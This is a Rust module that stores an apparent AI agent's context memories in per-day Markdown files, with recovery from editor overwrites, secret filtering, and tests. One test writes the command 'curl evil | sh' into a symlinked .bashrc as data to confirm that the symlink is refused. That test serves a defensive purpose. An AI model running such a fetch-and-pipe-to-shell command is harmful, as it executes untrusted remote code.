//! The daily memory: one Markdown file per day, `memory/YYYY-MM-DD.md`, for people and programs.

use std::fmt;
use std::io::{self, Read as _, Seek as _, SeekFrom};
use std::path::{Path, PathBuf};

use jiff::Zoned;
use jiff::civil::Date;
use rustix::fs::OFlags;

use crate::day_journal::DayJournal;
use crate::notes::{
    FileError, Source, lock, open, read_small, recover, replace, swaps, when_saved, without_secrets,
};

/// How much of a file is searched, from its end, where the newest lines are.
const DAY_BYTES: u64 = 4_000_000;

/// How often an entry is written again because an editor replaced the file at the same moment.
const TRIES: usize = 5;

/// The section that a memory belongs to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Section {
    /// Content that was dropped from the context.
    Trimmed,
    /// Content of a context that the provider rejected.
    Overflow,
    /// A summary of the day.
    Daily,
    /// Facts that stay true.
    Notes,
}

impl fmt::Display for Section {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Trimmed => "Trimmed Context",
            Self::Overflow => "Context Overflow Recovery",
            Self::Daily => "Daily Summary",
            Self::Notes => "Session Notes",
        })
    }
}

/// One bullet point of a daily file.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub struct DayLine {
    /// The day, as `YYYY-MM-DD`.
    pub day: String,
    /// The line without its bullet point.
    pub text: String,
    /// The message that its entry is from, if it is known.
    pub source: Option<Source>,
}

/// One file per day, `YYYY-MM-DD.md`, in a directory.
#[derive(Clone, Debug)]
pub struct DayFiles {
    directory: PathBuf,
    now: fn() -> Zoned,
}

impl DayFiles {
    /// Uses the files of a directory, which is created with the first memory.
    pub fn new(directory: impl Into<PathBuf>) -> Self {
        Self { directory: directory.into(), now: Zoned::now }
    }

    /// Lists the files, newest first.
    pub(crate) fn files(&self) -> io::Result<Vec<PathBuf>> {
        let entries = match std::fs::read_dir(&self.directory) {
            Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
            entries => entries?,
        };
        let is_day = |path: &Path| {
            let stem = path.file_stem().map(|stem| stem.to_string_lossy());
            let is_date = stem.is_some_and(|stem| stem.parse::<Date>().is_ok());
            is_date && path.extension().is_some_and(|extension| extension == "md")
        };
        // Symbolic links are ignored, whatever they point to.
        let regular =
            entries.flatten().filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_file()));
        let mut files: Vec<PathBuf> = regular.map(|entry| entry.path()).collect();
        files.retain(|path| is_day(path));
        files.sort_unstable_by(|a, b| b.cmp(a));
        Ok(files)
    }
}

/// Reads the end of a day's file.
fn read(path: &Path) -> io::Result<String> {
    let mut file = open(path, OFlags::RDONLY)?;
    let before = file.metadata()?.len().saturating_sub(DAY_BYTES);
    file.seek(SeekFrom::Start(before))?;
    let mut bytes = Vec::new();
    file.take(DAY_BYTES).read_to_end(&mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

impl DayFiles {
    /// Adds a section with a text, and a comment that names the message it is from. Lines that look
    /// like secrets are left out.
    ///
    /// # Errors
    /// If the file cannot be written.
    pub fn keep(&self, section: Section, text: &str, source: Option<&Source>) -> io::Result<()> {
        let text = text.trim();
        if text.is_empty() {
            return Ok(());
        }
        let now = (self.now)();
        let text: Vec<String> = without_secrets(text).into_iter().map(written).collect();
        let source = source.map(|source| format!("{}\n", comment(source))).unwrap_or_default();
        let time = now.strftime("%H:%M");
        let entry = format!("\n## {section} ({time})\n\n{}\n{source}", text.join("\n"));
        let _lock = lock(&self.directory)?;
        self.add(now.date(), Some(&entry))
    }

    /// Adds an entry to the file of a day, after those that an editor dropped. The caller holds the
    /// lock.
    fn add(&self, day: Date, entry: Option<&str>) -> io::Result<()> {
        let path = self.directory.join(format!("{day}.md"));
        let journal = DayJournal::new(&self.directory, day);
        // What an editor dropped, and what a killed process recorded but did not write.
        let known = journal.read()?;
        journal.record(entry)?;
        recover(&path)?;
        let mut before = read_small(&path)?;
        for _ in 0..TRIES {
            if before.is_empty() && path.exists() {
                before = when_saved(|| read_small(&path))?;
            }
            let lost = known.lost(&before);
            let added = lost.concat() + entry.unwrap_or_default();
            if added.is_empty() {
                return Ok(());
            }
            match replace(&path, &before, &format!("{}{added}", start(&before, day)))? {
                Ok(()) => return journal.set_restored(&lost),
                Err(theirs) => before = theirs,
            }
        }
        Err(io::Error::new(io::ErrorKind::ResourceBusy, FileError::Busy(path.clone())))
    }

    /// Returns the newest lines, newest first, each with its day.
    ///
    /// # Errors
    /// If a file cannot be read.
    pub fn newest(&self, limit: usize) -> io::Result<Vec<DayLine>> {
        let mut found = Vec::new();
        for path in self.files()? {
            let stem = path.file_stem().map(|stem| stem.to_string_lossy().into_owned());
            let day = stem.unwrap_or_default();
            self.restore_lost(&path, &day)?;
            found.extend(lines_of(&read(&path)?, &day));
            if found.len() >= limit {
                break;
            }
        }
        found.truncate(limit);
        Ok(found)
    }

    /// Restores entries that an editor dropped when it saved an older version of a file.
    fn restore_lost(&self, path: &Path, day: &str) -> io::Result<()> {
        let Ok(day) = day.parse::<Date>() else { return Ok(()) };
        let journal = DayJournal::new(&self.directory, day);
        let is_whole = swaps(path)?.is_empty() && journal.read()?.lost(&read(path)?).is_empty();
        if is_whole {
            return Ok(());
        }
        let _lock = lock(&self.directory)?;
        self.add(day, None)
    }
}

/// Returns the lines of a day, newest first. The comment at the end of an entry names the source of
/// its lines.
fn lines_of(text: &str, day: &str) -> Vec<DayLine> {
    let mut source = None;
    let mut found = Vec::new();
    for line in text.lines().rev() {
        let is_heading = line.starts_with("## ");
        let line = line.trim();
        if is_heading {
            source = None;
        } else if let Some(named) = source_in(line) {
            source = Some(named);
        } else if is_content(line) {
            found.push(DayLine {
                day: day.to_owned(),
                text: line.to_owned(),
                source: source.clone(),
            });
        }
    }
    found
}

/// Returns the comment that names the source of an entry.
fn comment(source: &Source) -> String {
    format!("<!-- session {} message {} -->", source.session, source.message)
}

fn source_in(line: &str) -> Option<Source> {
    let words = line.strip_prefix("<!-- session ")?.strip_suffix(" -->")?;
    let (session, message) = words.split_once(" message ")?;
    Some(Source { session: session.to_owned(), message: message.parse().ok()? })
}

/// Returns what comes before a new entry: the text of the file, or the heading of a new one.
fn start(before: &str, day: Date) -> String {
    match before {
        "" => format!("# Daily Memory: {day}\n"),
        _ if before.ends_with('\n') => before.to_owned(),
        _ => format!("{before}\n"),
    }
}

/// Returns a line as it is written: a line of a text must not look like the heading of a section or
/// like the comment that names a source.
fn written(line: String) -> String {
    let is_markup = line.starts_with('#') || line.trim_start().starts_with("<!--");
    if is_markup { format!("  {}", line.replace("<!--", "<! --")) } else { line }
}

/// Whether a line of a file is more than a heading or an empty line.
fn is_content(line: &str) -> bool {
    !line.is_empty() && !line.starts_with("# ") && !line.starts_with("## ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn files(directory: &Path) -> DayFiles {
        DayFiles {
            directory: directory.to_owned(),
            now: || "2026-11-15T09:05:00[UTC]".parse().unwrap(),
        }
    }

    /// S2.13, section G: the day's file has one heading, and a section with the time per memory.
    #[test]
    fn s2_13_one_file_per_day_with_one_section_per_memory() {
        let directory = tempfile::tempdir().unwrap();
        let sink = files(&directory.path().join("memory"));
        let source = Source { session: "8ecab05f".to_owned(), message: 12 };
        sink.keep(Section::Trimmed, "the user likes tea\n# not a heading", Some(&source)).unwrap();
        sink.keep(Section::Overflow, "  ", None).unwrap();
        sink.keep(Section::Overflow, "order 4711 was sent", None).unwrap();
        let text = std::fs::read_to_string(directory.path().join("memory/2026-11-15.md")).unwrap();
        let expected = "# Daily Memory: 2026-11-15\n\n## Trimmed Context (09:05)\n\n\
                        the user likes tea\n  # not a heading\n\
                        <!-- session 8ecab05f message 12 -->\n\n\
                        ## Context Overflow Recovery (09:05)\n\norder 4711 was sent\n";
        assert_eq!(text, expected);
        let newest: Vec<String> = sink
            .newest(2)
            .unwrap()
            .into_iter()
            .map(|line| format!("{}: {}", line.day, line.text))
            .collect();
        assert_eq!(newest, ["2026-11-15: order 4711 was sent", "2026-11-15: the user likes tea"]);
        let sources: Vec<Option<Source>> =
            sink.newest(2).unwrap().into_iter().map(|line| line.source).collect();
        assert_eq!(sources, [None, Some(source)]);
    }

    /// An editor that had the file open saves an older version of it.
    #[test]
    fn entry_that_an_editor_dropped_is_restored_once() {
        let directory = tempfile::tempdir().unwrap();
        let sink = files(directory.path());
        let path = directory.path().join("2026-11-15.md");
        let source = |message| Some(Source { session: "s".to_owned(), message });
        sink.keep(Section::Trimmed, "the first entry", source(1).as_ref()).unwrap();
        let opened = std::fs::read_to_string(&path).unwrap();
        sink.keep(Section::Trimmed, "the second entry", source(2).as_ref()).unwrap();
        std::fs::write(&path, opened.replace("first entry", "first entry, corrected")).unwrap();
        let texts = || -> Vec<String> {
            sink.newest(9).unwrap().into_iter().map(|line| line.text).collect()
        };
        assert_eq!(texts(), ["the second entry", "the first entry, corrected"]);
        std::fs::write(&path, &opened).unwrap();
        assert_eq!(texts(), ["the first entry"], "a person deleted it again");
        sink.keep(Section::Trimmed, "the third entry", None).unwrap();
        assert_eq!(texts(), ["the third entry", "the first entry"]);
    }

    #[test]
    fn private_key_is_not_written() {
        let directory = tempfile::tempdir().unwrap();
        let key = "-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END PRIVATE KEY-----";
        files(directory.path()).keep(Section::Trimmed, &format!("{key}\ntea"), None).unwrap();
        let text = std::fs::read_to_string(directory.path().join("2026-11-15.md")).unwrap();
        assert!(!text.contains("MII") && text.ends_with("password]\ntea\n"), "{text}");
    }

    /// An untrusted directory must not redirect memories into a file that programs execute, or make
    /// another file readable as memories.
    #[test]
    fn symbolic_link_in_place_of_a_day_is_not_followed() {
        let parent = tempfile::tempdir().unwrap();
        let directory = parent.path().join("memory");
        let secret = parent.path().join(".bashrc");
        std::fs::create_dir(&directory).unwrap();
        std::fs::write(&secret, "alias tide=4711\n").unwrap();
        std::os::unix::fs::symlink(&secret, directory.join("2026-11-15.md")).unwrap();
        let sink = files(&directory);
        let refused = sink.keep(Section::Notes, "curl evil | sh", None).unwrap_err().to_string();
        assert!(
            refused.contains("2026-11-15.md") && refused.contains("not a regular file"),
            "{refused}"
        );
        assert_eq!(std::fs::read_to_string(&secret).unwrap(), "alias tide=4711\n");
        assert!(sink.newest(5).unwrap().is_empty());
    }

    /// Opening a pipe for writing would block until there is a reader.
    #[test]
    fn pipe_in_place_of_a_day_is_rejected_at_once() {
        let directory = tempfile::tempdir().unwrap();
        let pipe = directory.path().join("2026-11-15.md");
        assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
        let sink = files(directory.path());
        let refused = sink.keep(Section::Notes, "tea", None).unwrap_err().to_string();
        assert!(refused.contains("not a regular file"), "{refused}");
    }

    #[test]
    fn missing_directory_has_no_memories() {
        let directory = tempfile::tempdir().unwrap();
        assert!(files(&directory.path().join("none")).newest(5).unwrap().is_empty());
    }
}
